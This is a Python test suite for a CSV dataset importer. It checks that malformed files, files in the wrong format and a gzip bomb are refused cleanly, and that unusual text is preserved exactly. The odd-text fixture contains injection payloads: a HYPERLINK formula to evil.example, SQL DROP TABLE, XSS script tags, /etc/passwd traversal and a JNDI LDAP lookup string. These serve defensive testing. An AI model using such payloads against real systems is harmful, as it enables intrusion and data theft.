"""Files as they come: whatever is in one, it becomes a dataset whole, or one sentence and nothing, and earlier work stays."""

import gzip
import io
import os
import subprocess
import sys
import zipfile
from pathlib import Path

import pytest

from tlcore.data.csv.load import CsvOptions
from tlcore.data.importer import ImportChoices, import_csv
from tlcore.data.store import DatasetStore
from tlcore.errors import ChoiceError, UserError
from tlcore.experiments.spec import ExperimentSpec, check_spec
from tlcore.files import sha256_of
from tlcore.records import DatasetCard
from tlcore.settings import Workspace

WORDS = ("otter", "heron", "badger", "lynx", "falcon", "marten", "vole", "osprey", "stoat", "plover", "weasel", "curlew")


def a_text(number: int) -> str:
    return f"{WORDS[number % 12]} {number * 7919:x} by the {number * 104729:x} river"


GOOD = "review,mood\n" + "".join(f"{a_text(number)},{['good', 'bad'][number % 2]}\n" for number in range(40))
ACCENTS = "".join(f"été à la mer {number},bad\n" for number in range(50)).encode()


def office_file(*names: str) -> bytes:
    content = io.BytesIO()
    with zipfile.ZipFile(content, "w") as archive:
        for name in names:
            archive.writestr(name, "<x/>")
    return content.getvalue()


def with_cell(cell: str) -> bytes:
    return f'{GOOD}"{cell}",good\n'.encode()


REFUSED: dict[str, tuple[bytes, str]] = {
    "empty": (b"", "no data rows"),
    "blank lines": (b"\n\r\n\n", "no data rows"),
    "a byte-order mark alone": (b"\xef\xbb\xbf", "no data rows"),
    "header only": (b"review,mood\n", "no data rows"),
    "one line": (b"a fine thing indeed,good\n", "no data rows"),
    "surplus fields": (GOOD.encode() + b"one,two,three\n", "line 42"),
    "missing fields": (b"review,mood\nalone\n" + GOOD.partition("\n")[2].encode(), "line 2"),
    "unclosed quote": (GOOD.encode() + b'"never closed,good\n' + GOOD.encode(), "line 42"),
    "undecodable bytes": (GOOD.encode() + b"caf\xe9 \xff\xfe,good\n" + ACCENTS, "line 42"),
    "half a character": (GOOD.encode() + b"\xed\xa0\x80,good\n" + ACCENTS, "line 42"),
    "cell over the limit": (with_cell("x" * 1_000_001), "line 42"),
    "excel": (office_file("[Content_Types].xml", "xl/workbook.xml"), "Excel"),
    "old excel": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "Excel"),
    "zip": (office_file("reviews.csv"), "zip"),
    "gzip": (gzip.compress(GOOD.encode()), "gzip"),
    "pdf": (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n" + bytes(100), "PDF"),
    "web page": (b"\n<!doctype html>\n<html><table><tr><td>a</td></tr></table></html>", "HTML"),
    "picture": (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(100), "reviews.csv"),
    "program": (b"\x7fELF\x02\x01\x01" + os.urandom(3_000), "reviews.csv"),
}


@pytest.fixture
def earlier(workspace: Workspace, tmp_path: Path) -> DatasetCard:
    """A dataset that was there before."""
    (tmp_path / "earlier.csv").write_text(GOOD)
    return import_csv(workspace, tmp_path / "earlier.csv")


def content_of(workspace: Workspace) -> dict[str, str]:
    """Every file of a workspace with its content's hash."""
    return {str(path.relative_to(workspace.root)): sha256_of(path) for path in workspace.root.rglob("*") if path.is_file()}


@pytest.mark.parametrize("case", REFUSED)
def test_what_cannot_be_read_is_one_sentence_and_changes_nothing(
    workspace: Workspace, earlier: DatasetCard, tmp_path: Path, case: str
) -> None:
    content, word = REFUSED[case]
    (tmp_path / "reviews.csv").write_bytes(content)
    before = content_of(workspace)
    with pytest.raises(UserError) as caught:
        import_csv(workspace, tmp_path / "reviews.csv")
    sentence = str(caught.value)
    assert "reviews.csv" in sentence
    assert word in sentence
    assert "\n" not in sentence
    assert len(sentence) < 400
    assert content_of(workspace) == before
    assert DatasetStore(workspace).list() == [earlier]


SKIPPED = ("surplus fields", "missing fields", "unclosed quote", "undecodable bytes", "half a character", "cell over the limit")


@pytest.mark.parametrize("case", SKIPPED)
def test_rows_that_cannot_be_read_can_be_left_out_and_no_other_is_lost(workspace: Workspace, tmp_path: Path, case: str) -> None:
    (tmp_path / "reviews.csv").write_bytes(REFUSED[case][0])
    card = import_csv(workspace, tmp_path / "reviews.csv", ImportChoices(csv=CsvOptions(bad_rows="skip")))
    texts = DatasetStore(workspace).items(card.id)["text"].tolist()
    assert set(map(a_text, range(40))) <= set(texts)
    assert card.source.rows_skipped >= 1
    assert next(finding for finding in card.findings if finding.code == "rows_skipped").count == card.source.rows_skipped


ODD_TEXTS = (
    "zero\u200bwidth\u200djoined\ufeff",
    "\u202ereversed\u202c and \u05d0\u05d1\u05d2 mixed",
    "bell \x07 escape \x1b[31m backspace \x08",
    "line\u2028separator\u2029paragraph\x85next",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467 family \U0001f1e9\U0001f1ea flag",
    "e\u0301 is not \u00e9, \ufb01 is not fi, \u1e9e",
    "Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324 spills",
    "\ufdfd \U00012031 \U0010fffd wide and private",
    "=HYPERLINK(\"https://evil.example\",\"click\")",
    "'; DROP TABLE runs; --",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "![x](https://evil.example/x.png) $x^2$ :red[y]",
    "../../../etc/passwd %00 C:\\CON",
    "{{7*7}} ${jndi:ldap://evil.example} %s%n",
    "NULL", "nan", "undefined", "__proto__", "0x10", "1e309", "-0", "TRUE",
    "  spaces are part of it\t",
    "two\nlines\r\nthree",
    "a \"quoted\" word, and a comma; a semicolon|a bar",
    "\xa0\u3000 blanks of other kinds \u3000",
)  # fmt: skip


def test_odd_texts_and_labels_come_through_letter_by_letter(workspace: Workspace, tmp_path: Path) -> None:
    quote = '"{}"'.format
    rows = [(text, f"label {number % 3} \u202e<b>") for number, text in enumerate((*ODD_TEXTS, *map(a_text, range(40))))]
    lines = [",".join(quote(cell.replace('"', '""')) for cell in row) for row in rows]
    (tmp_path / "odd.csv").write_bytes("\n".join(["text,label", *lines, ""]).encode())
    card = import_csv(workspace, tmp_path / "odd.csv", ImportChoices(text="text", label="label"))
    items = DatasetStore(workspace).items(card.id)
    assert items["text"].tolist() == [text for text, _ in rows]
    assert items["label"].tolist() == [label for _, label in rows]
    assert set(card.classes) == {f"label {number} \u202e<b>" for number in range(3)}
    for finding in card.findings:
        assert "\n" not in finding.message
        finding.model_dump_json().encode()


def test_a_nul_is_dropped_and_nothing_else(workspace: Workspace, tmp_path: Path) -> None:
    (tmp_path / "nul.csv").write_bytes(GOOD.encode() + b"before\0after,go\0od\n")
    card = import_csv(workspace, tmp_path / "nul.csv")
    assert DatasetStore(workspace).items(card.id)["text"].iloc[-1] == "beforeafter"
    assert set(card.classes) == {"negative", "positive"}


LABELS = (
    "NA",
    "N/A",
    "None",
    "null",
    "nan",
    "NaN",
    "007",
    "7",
    "7.0",
    "TRUE",
    "True",
    "1",
    "1.0",
    "01",
    "1e3",
    "1000",
    "-",
    "inf",
)


def test_labels_that_others_take_for_numbers_or_nothing_stay_apart(workspace: Workspace, tmp_path: Path) -> None:
    rows = [f"{a_text(number)},{LABELS[number % len(LABELS)]}\n" for number in range(12 * len(LABELS))]
    (tmp_path / "labels.csv").write_text("".join(["text,kind\n", *rows]))
    card = import_csv(workspace, tmp_path / "labels.csv", ImportChoices(text="text", label="kind", task="classification"))
    assert card.classes == dict.fromkeys(sorted(LABELS), 12)


UNFIT = {
    "one class": (["same"] * 40, "“same”"),
    "no label anywhere": ([""] * 40, "label"),
    "a label missing": ([*["a", "b"] * 20, ""], "1"),
    "a class of one": ([*["a", "b"] * 20, "lonely"], "single item"),
    "an id": ([f"id-{number % 250}" for number in range(300)], "250 .*id"),
}


@pytest.mark.parametrize("case", UNFIT)
def test_labels_that_cannot_be_learnt_are_stored_with_the_reason_and_never_trained_on(
    workspace: Workspace, tmp_path: Path, case: str
) -> None:
    labels, word = UNFIT[case]
    rows = [f"{a_text(number)},{label}\n" for number, label in enumerate(labels)]
    (tmp_path / "unfit.csv").write_text("".join(["text,label\n", *rows]))
    card = import_csv(workspace, tmp_path / "unfit.csv", ImportChoices(text="text", label="label", task="classification"))
    with pytest.raises(ChoiceError, match=rf"“unfit” cannot be trained on yet.*{word}"):
        check_spec(ExperimentSpec(name="x", dataset=card.id), card)


def test_a_packed_bomb_costs_no_memory(tmp_path: Path) -> None:
    """Half a gigabyte in two megabytes, read by a process of its own that says how much memory it took."""
    with gzip.open(tmp_path / "bomb.csv.gz", "wb", compresslevel=1) as bomb:
        bomb.write(b"text,label\n")
        for _ in range(500):
            bomb.write(b"a,b\n" * 250_000)
    code = f"""
import resource
from pathlib import Path
from tlcore.data.importer import import_csv
from tlcore.errors import DataError
from tlcore.settings import Workspace
def peak():
    return resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024
good = Path({str(tmp_path)!r}) / "good.csv"
good.write_text({GOOD!r})
import_csv(Workspace(), good)
before = peak()
try:
    import_csv(Workspace(), Path({str(tmp_path)!r}) / "bomb.csv.gz")
except DataError as error:
    print(peak() - before, error)
"""
    environment = {**os.environ, "TLCORE_HOME": str(tmp_path / "workspace"), "TLCORE_MAX_FILE_BYTES": str(100 * 1024**2)}
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, env=environment, check=True)
    grown, sentence = done.stdout.split(" ", 1)
    assert "bomb.csv.gz" in sentence
    assert "limit" in sentence
    assert int(grown) < 100
